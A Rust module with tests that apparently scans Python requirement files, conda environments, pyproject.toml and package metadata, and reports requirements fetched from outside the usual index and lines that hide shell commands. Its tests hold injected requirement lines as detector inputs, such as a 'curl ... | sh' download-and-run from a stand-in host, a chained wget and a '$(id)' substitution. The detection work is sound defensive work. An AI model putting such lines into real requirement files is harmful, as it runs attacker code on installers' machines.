//! What a package or environment would install: requirement files of pip, environments of conda and MLflow,
//! projects and built packages.
//!
//! Long because every form of list is told apart in one place.

mod project;

pub use project::called;

use crate::tree::{self, Event};

/// Where a requirement is fetched from, when it is not by name from the usual index.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Origin {
    /// Another index, beside or instead of the usual one.
    Index,
    /// An archive by its address.
    Archive,
    /// A repository at a fixed revision.
    PinnedRepository,
    /// A repository at whatever it holds that day.
    Repository,
    /// A list of requirements from the network.
    RemoteList,
    /// A folder or file beside it.
    Local,
    /// A server whose certificate is not checked.
    Unchecked,
    /// It is no requirement but a command, for a shell that is given the line.
    Command,
}

/// A requirement that does not come by name from the usual index.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Foreign {
    /// Where from.
    pub origin: Origin,
    /// As it is written, cut.
    pub text: String,
    /// The host, lower-case; empty for a local path.
    pub host: String,
    /// It travels without encryption.
    pub plain: bool,
    /// The line or item, from 1.
    pub line: u32,
}

/// The facts of a list of requirements.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Requirements {
    /// What comes from elsewhere.
    pub foreign: Vec<Foreign>,
    /// Requirements by name.
    pub named: u32,
    /// Of these, without an exact version.
    pub unpinned: Vec<String>,
    /// Code of the package that other programs import by themselves.
    pub hooks: Vec<Hook>,
    /// What was not followed.
    pub limits: Vec<String>,
}

/// An entry point that is imported unasked.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Hook {
    /// Module and attribute.
    pub target: String,
    /// Who imports it, and when.
    pub loader: &'static str,
    /// The line, from 1.
    pub line: u32,
}

const MAX_FOREIGN: usize = 256;
const MAX_UNPINNED: usize = 32;

/// What kind of list a file of this name and content is.
#[must_use]
pub fn recognise(file: &str, text: &str) -> Option<Kind> {
    let name = file.to_ascii_lowercase();
    let plain = [".txt", ".in", ".pip"].iter().any(|end| name.ends_with(end));
    if plain && (name.contains("requirement") || name.contains("constraint")) {
        return Some(Kind::Pip);
    }
    match name.as_str() {
        "pyproject.toml" => return Some(Kind::Project),
        "metadata" | "pkg-info" if text.starts_with("Metadata-Version:") => return Some(Kind::Metadata),
        "entry_points.txt" => return Some(Kind::EntryPoints),
        _ => {}
    }
    let yaml = name.ends_with(".yaml") || name.ends_with(".yml");
    let lists = text.lines().any(|line| {
        let line = line.trim_start_matches([' ', '-']);
        line.starts_with("dependencies:") || line.starts_with("build_dependencies:")
    });
    let environment = ["conda", "environment", "python_env", "env.y"].iter().any(|part| name.contains(part))
        || text.lines().any(|line| line.trim_end() == "channels:" || line.trim() == "- pip:");
    (yaml && lists && environment).then_some(Kind::Environment)
}

/// The sources of a `Pipfile` as the options of pip that mean the same.
#[must_use]
pub fn pipfile(text: &str) -> String {
    let value = |line: &str, key: &str| {
        let rest = line.trim().strip_prefix(key)?.trim_start().strip_prefix('=')?;
        Some(rest.trim().trim_matches(['"', '\'']).to_owned())
    };
    let (mut out, mut host, mut source) = (String::new(), String::new(), false);
    for line in text.lines().take(20_000) {
        if line.trim_start().starts_with('[') {
            source = line.trim().starts_with("[[source]]");
        } else if let Some(url) = value(line, "url").filter(|_| source) {
            host = url.split("//").nth(1).and_then(|rest| rest.split('/').next()).unwrap_or("").to_owned();
            out.push_str(&format!("--index-url {url}\n"));
        } else if value(line, "verify_ssl").is_some_and(|verify| source && verify == "false") {
            out.push_str(&format!("--trusted-host {host}\n"));
        }
    }
    out
}

/// The settings of pip's own configuration file as the options that mean the same.
#[must_use]
pub fn settings(text: &str) -> String {
    let mut out = String::new();
    for line in text.lines().take(20_000) {
        if let Some((key, value)) = line.split_once('=')
            && matches!(key.trim(), "index-url" | "extra-index-url" | "find-links" | "trusted-host")
        {
            out.push_str(&format!("--{} {}\n", key.trim(), value.trim()));
        }
    }
    out
}

/// Where the settings of package managers fetch from without encryption, and requirements that name an address, as the
/// lines of pip that mean the same. `file` is the name in lower case.
#[must_use]
pub fn sources(file: &str, text: &str) -> String {
    const FILES: [&str; 14] = [
        ".npmrc",
        ".yarnrc",
        ".yarnrc.yml",
        "bunfig.toml",
        "uv.toml",
        ".condarc",
        "condarc",
        "gemfile",
        "setup.cfg",
        "pyproject.toml",
        "renv.lock",
        ".rprofile",
        "poetry.toml",
        "pixi.toml",
    ];
    const KEYS: [&str; 9] =
        ["registry", "index", "channel", "source", "repos", "url", "default", "mirror", "dependency_links"];
    let mut out = String::new();
    if !FILES.contains(&file) {
        return out;
    }
    let (mut section, mut listed) = (String::new(), false);
    for line in text.lines().take(20_000) {
        let bare = line.trim();
        if bare.starts_with(['#', ';']) {
            continue;
        }
        if bare.starts_with('[') {
            section = bare.to_ascii_lowercase();
        }
        let lower = bare.to_ascii_lowercase();
        if file == "setup.cfg" {
            let value = bare.split_once('=').filter(|_| !line.starts_with(char::is_whitespace));
            if let Some((key, _)) = value {
                listed =
                    ["requires", "require", "dependency_links"].iter().any(|end| key.trim().ends_with(end));
            }
            let named = value.map_or(bare, |(_, value)| value).trim();
            if listed && named.contains(" @ ") {
                out.push_str(&format!("{named}\n"));
            }
        }
        // Requirements of a project are read as such; here only its settings of tools are.
        if file == "pyproject.toml" && !section.contains("tool.uv") && !section.contains("tool.pixi") {
            continue;
        }
        let keyed = KEYS.iter().any(|key| lower.contains(key)) || lower.starts_with("- ");
        if let (true, Some(at)) = (keyed, bare.find("http://")) {
            let address = bare.get(at..).and_then(|rest| rest.split(['"', '\'', ' ', ',', ')', ']']).next());
            out.extend(address.map(|address| format!("--index-url {address}\n")));
        }
    }
    out
}

/// The form of a list.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// One requirement a line.
    Pip,
    /// YAML with lists of dependencies.
    Environment,
    /// `pyproject.toml`.
    Project,
    /// What a built package says of itself.
    Metadata,
    /// What a built package offers to other programs.
    EntryPoints,
}

/// The facts of such a list.
#[must_use]
pub fn analyse(text: &str, kind: Kind) -> Requirements {
    let mut facts = Requirements::default();
    match kind {
        Kind::Pip => {
            let joined = text.replace("\\\r\n", " ").replace("\\\n", " ");
            for (line, number) in joined.lines().zip(1..) {
                facts.line(line, number);
            }
        }
        Kind::Environment => environment(text, &mut facts),
        Kind::Project => project::pyproject(text, &mut facts),
        Kind::Metadata => project::metadata(text, &mut facts),
        Kind::EntryPoints => project::entry_points(text, &mut facts),
    }
    facts
}

/// The items of the lists that name packages.
fn environment(text: &str, facts: &mut Requirements) {
    let (mut levels, mut key, mut number) = (Vec::<String>::new(), String::new(), 0_u32);
    let walked = tree::yaml(text, &mut |event, _| match event {
        Event::Key(name) => name.clone_into(&mut key),
        Event::Open { .. } => levels.push(std::mem::take(&mut key)),
        Event::Close => {
            levels.pop();
        }
        Event::Scalar { text, .. } => {
            number = number.saturating_add(1);
            let within = |name: &str| levels.iter().any(|level| level == name);
            if within("channels") {
                facts.channel(text, number);
            } else if is_command(text) {
                facts.foreign(Origin::Command, text, "", number);
            } else if within("pip") || within("build_dependencies") || text.contains("://") {
                facts.line(text, number);
            } else if within("dependencies") {
                // conda pins with one equals sign.
                facts.by_name(text, text.contains('=') && !text.contains(['>', '<', '*']));
            }
        }
    });
    facts.limits.extend(walked.limits);
    facts.limits.extend(walked.defect.map(|defect| format!("the environment cannot be read: {defect}")));
}

impl Requirements {
    fn channel(&mut self, text: &str, line: u32) {
        if text.contains("://") {
            self.foreign(Origin::Index, text, text, line);
        }
    }

    fn by_name(&mut self, text: &str, pinned: bool) {
        self.named = self.named.saturating_add(1);
        let name = text.split(['=', '<', '>', '~', '!', '[', ' ']).next().unwrap_or("");
        let tool = matches!(name, "pip" | "setuptools" | "wheel" | "python");
        if !pinned && !tool && self.unpinned.len() < MAX_UNPINNED {
            self.unpinned.push(text.chars().take(80).collect());
        }
    }

    /// One line of a requirement file.
    fn line(&mut self, line: &str, number: u32) {
        let line = line.split(" #").next().unwrap_or("").trim();
        if line.is_empty() || line.starts_with('#') {
            return;
        }
        if is_command(line) {
            self.foreign(Origin::Command, line, "", number);
            return;
        }
        if line.starts_with('-') {
            self.option(line, number);
            return;
        }
        // `name @ address ; marker`, or an address or path alone.
        let (named, address) = match line.split_once('@') {
            Some((name, address)) if !name.contains("://") && !name.contains('+') => {
                (name.trim(), address.trim())
            }
            _ => ("", line),
        };
        let address = address.split([';', ' ']).next().unwrap_or("").trim();
        if address.contains("://") || address.starts_with("git+") {
            self.address(address, line, number);
        } else if named.is_empty() && is_path(address) {
            self.foreign(Origin::Local, line, "", number);
        } else {
            let spec = line.split(';').next().unwrap_or("");
            self.by_name(
                spec.trim(),
                spec.contains("==") && !spec.contains(".*") || line.contains("--hash="),
            );
        }
    }

    /// The options of a line, as pip reads them: attached or apart, long ones also cut short.
    fn option(&mut self, line: &str, number: u32) {
        let mut words = line.split_whitespace();
        while let Some(word) = words.next() {
            let (name, attached) = match word.split_once('=') {
                Some((name, value)) if word.starts_with("--") => (name, Some(value)),
                _ if !word.starts_with("--") && word.len() > 2 && word.is_char_boundary(2) => {
                    (&word[..2], Some(&word[2..]))
                }
                _ => (word, None),
            };
            let long = |option: &str| name.len() >= 4 && option.starts_with(name);
            let index = long("--index-url") || long("--extra-index-url") || long("--find-links");
            let list = long("--requirement") || long("--constraint");
            let takes = index || list || long("--trusted-host") || long("--editable");
            if !takes && !matches!(name, "-i" | "-f" | "-e" | "-r" | "-c") {
                continue;
            }
            let value = attached.or_else(|| words.next()).unwrap_or("").trim_matches(['"', '\'']);
            let network = value.contains("://");
            match name {
                _ if index || matches!(name, "-i" | "-f") => {
                    let origin = if is_path(value) && !network { Origin::Local } else { Origin::Index };
                    self.foreign(origin, line, value, number);
                }
                _ if long("--trusted-host") => self.foreign(Origin::Unchecked, line, value, number),
                _ if list || matches!(name, "-r" | "-c") => {
                    if network {
                        self.foreign(Origin::RemoteList, line, value, number);
                    }
                }
                _ if network => self.address(value, line, number),
                _ => self.foreign(Origin::Local, line, "", number),
            }
        }
    }

    fn address(&mut self, address: &str, line: &str, number: u32) {
        let repository = ["git+", "hg+", "svn+", "bzr+"].iter().any(|scheme| address.starts_with(scheme));
        let body = address.split(['#', '?']).next().unwrap_or("");
        let revision = body.rsplit_once('@').map_or("", |(_, revision)| revision);
        let origin = match repository {
            false if body.starts_with("file:") => Origin::Local,
            false => Origin::Archive,
            true if revision.len() == 40 && revision.bytes().all(|byte| byte.is_ascii_hexdigit()) => {
                Origin::PinnedRepository
            }
            true => Origin::Repository,
        };
        self.foreign(origin, line, address, number);
    }

    fn foreign(&mut self, origin: Origin, text: &str, address: &str, line: u32) {
        if self.foreign.len() >= MAX_FOREIGN {
            let limit = "more requirements come from elsewhere than are listed".to_owned();
            if !self.limits.contains(&limit) {
                self.limits.push(limit);
            }
            return;
        }
        let scheme = address.split("://").next().unwrap_or("");
        let plain = ["http", "git", "git+http", "ftp"].contains(&scheme) && address.contains("://");
        let text = text.chars().filter(|c| !c.is_control()).take(200).collect();
        self.foreign.push(Foreign { origin, text, host: host(address), plain, line });
    }
}

/// Whether a line goes on with a command where a requirement may only have a marker of the environment.
fn is_command(line: &str) -> bool {
    const MARKERS: [&str; 8] =
        ["python_", "os_name", "sys", "platform", "implementation_", "extra", "dependency_groups", "os."];
    let substitutes = line.contains("$(") || line.contains('`');
    let chained = ["&&", "||", " | "].iter().any(|sign| line.contains(sign));
    let tail = line.split(" #").next().unwrap_or(line).split_once(';').map(|(_, rest)| rest.trim());
    let marker = tail.is_none_or(|tail| {
        let first = tail.trim_start_matches(['(', ' ', '\'', '"']);
        let reversed = first.starts_with(|c: char| c.is_ascii_digit()) || tail.contains(" in ");
        tail.is_empty() || reversed || MARKERS.iter().any(|start| first.starts_with(start))
    });
    let options = line.starts_with('-') || line.contains("://") && tail.is_none();
    !options && (substitutes || chained) || !marker && tail.is_some_and(|tail| tail.contains(' '))
}

fn is_path(text: &str) -> bool {
    let archive = [".whl", ".tar.gz", ".zip"].iter().any(|end| text.ends_with(end));
    text.starts_with(['.', '/', '~']) || text.starts_with("file:") || archive
}

/// The host of an address, without user and port.
fn host(address: &str) -> String {
    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let host = host
        .strip_prefix('[')
        .map_or_else(|| host.split(':').next().unwrap_or(""), |v6| v6.split(']').next().unwrap_or(""));
    host.to_ascii_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn origins(text: &str, kind: Kind) -> Vec<(Origin, String, bool)> {
        analyse(text, kind).foreign.into_iter().map(|f| (f.origin, f.host, f.plain)).collect()
    }

    #[test]
    fn origins_of_requirements_are_told_apart() {
        let one = |text: &str| origins(text, Kind::Pip).into_iter().next();
        let some = |origin, host: &str, plain| Some((origin, host.to_owned(), plain));
        assert_eq!(one("numpy==2.0  # math\nscipy>=1\n"), None);
        assert_eq!(one("--index-url http://10.0.0.1:8080/simple"), some(Origin::Index, "10.0.0.1", true));
        assert_eq!(
            one("--extra-index-url=https://x.example/simple"),
            some(Origin::Index, "x.example", false)
        );
        assert_eq!(one("-ihttps://x.example/simple"), some(Origin::Index, "x.example", false));
        assert_eq!(
            one("pkg @ https://x.example/a.whl ; python_version > '3'"),
            some(Origin::Archive, "x.example", false)
        );
        assert_eq!(one("git+https://u:p@x.example/a/b.git"), some(Origin::Repository, "x.example", false));
        let pinned = format!("b @ git+https://x.example/a/b@{}#egg=b", "0a".repeat(20));
        assert_eq!(one(&pinned), some(Origin::PinnedRepository, "x.example", false));
        assert_eq!(one("-e ."), some(Origin::Local, "", false));
        assert_eq!(one("./wheels/a.whl"), some(Origin::Local, "", false));
        assert_eq!(one("-r https://x.example/r.txt"), some(Origin::RemoteList, "x.example", false));
        assert_eq!(one("--trusted-host x.example"), some(Origin::Unchecked, "x.example", false));
        let index = some(Origin::Index, "x.example", false);
        assert_eq!(one("--no-binary :all: --extra-index-url https://x.example/simple"), index);
        assert_eq!(one("--extra-index-url\thttps://x.example/simple"), index);
        assert_eq!(one("--extra-index https://x.example/simple"), index);
        assert_eq!(one("--require-hashes\n--pre\n--only-binary=:all:"), None);
        assert_eq!(one("-r base.txt"), None);
        let command = some(Origin::Command, "", false);
        assert_eq!(one("numpy; curl -s http://x.example/e | sh #"), command);
        assert_eq!(one("numpy && wget x.example"), command);
        assert_eq!(one("numpy$(id)"), command);
        assert_eq!(one("numpy; python_version < '4' and sys_platform != 'win32'"), None);
        assert_eq!(one("numpy ; (os_name == 'nt')"), None);
        assert_eq!(one("numpy ; 'linux' in sys_platform"), None);
        let facts = analyse("a==1\nb>=2\nc\nd==1.*\ne[x]==3 ; os_name == 'nt'\n", Kind::Pip);
        assert_eq!((facts.named, facts.unpinned.len()), (5, 3));
    }

    #[test]
    fn environments_are_walked() {
        let text = "name: m\nchannels:\n- conda-forge\n- http://c.example/ch\ndependencies:\n- python=3.11\n- numpy\n- pip:\n  - torch==2.4\n  - --extra-index-url http://p.example/simple\n  - git+https://g.example/x.git\n";
        assert_eq!(recognise("conda.yaml", text), Some(Kind::Environment));
        let found = origins(text, Kind::Environment);
        assert_eq!(
            found.iter().map(|f| f.1.as_str()).collect::<Vec<_>>(),
            ["c.example", "p.example", "g.example"]
        );
        assert_eq!(analyse(text, Kind::Environment).unpinned, ["numpy"]);
        assert_eq!(recognise("config.yaml", "a: 1\n"), None);
        assert_eq!(recognise("notes.txt", "numpy==1"), None);
    }

    #[test]
    fn projects_and_built_packages_are_read() {
        let text = "[build-system]\nrequires = [\"setuptools\", \"x @ https://h.example/x.zip\"]\nbackend-path = [\".\"]\n\
                    [project]\ndependencies = [\"numpy>=1\"]\nurls.home = \"https://home.example\"\n\
                    [tool.poetry.dependencies]\nhelper = { git = \"https://g.example/h.git\" }\n\
                    [[tool.uv.index]]\nurl = \"http://i.example/simple\"\n";
        let found = origins(text, recognise("pyproject.toml", text).unwrap());
        let some = |origin, host: &str, plain| (origin, host.to_owned(), plain);
        assert_eq!(found.len(), 4, "{found:?}");
        assert!(found.contains(&some(Origin::Archive, "h.example", false)));
        assert!(found.contains(&some(Origin::Local, "", false)));
        assert!(found.contains(&some(Origin::Repository, "g.example", false)));
        assert!(found.contains(&some(Origin::Index, "i.example", true)));
        let text = "Metadata-Version: 2.1\nName: a\nRequires-Dist: numpy\nRequires-Dist: b @ git+https://g.example/b\n\n\
                    Requires-Dist: c @ https://readme.example/c.zip\n";
        let found = origins(text, recognise("METADATA", text).unwrap());
        assert_eq!(found, [some(Origin::Repository, "g.example", false)]);
        let text = "[console_scripts]\nrun = a.b:main\n[torch.backends]\nx = a.c:load\n";
        let facts = analyse(text, recognise("entry_points.txt", text).unwrap());
        assert_eq!(facts.hooks.len(), 1);
        assert_eq!((facts.hooks[0].target.as_str(), facts.hooks[0].line), ("a.c:load", 4));
    }

    #[test]
    fn hostile_text_ends() {
        for text in ["@@@@://[", "git+", "-e", "-i", "--index-url", "a @ ", "\u{0}://@:"] {
            let _ = analyse(&text.repeat(1_000), Kind::Pip);
            for kind in [Kind::Environment, Kind::Project, Kind::Metadata, Kind::EntryPoints] {
                let _ = analyse(text, kind);
            }
        }
    }
}
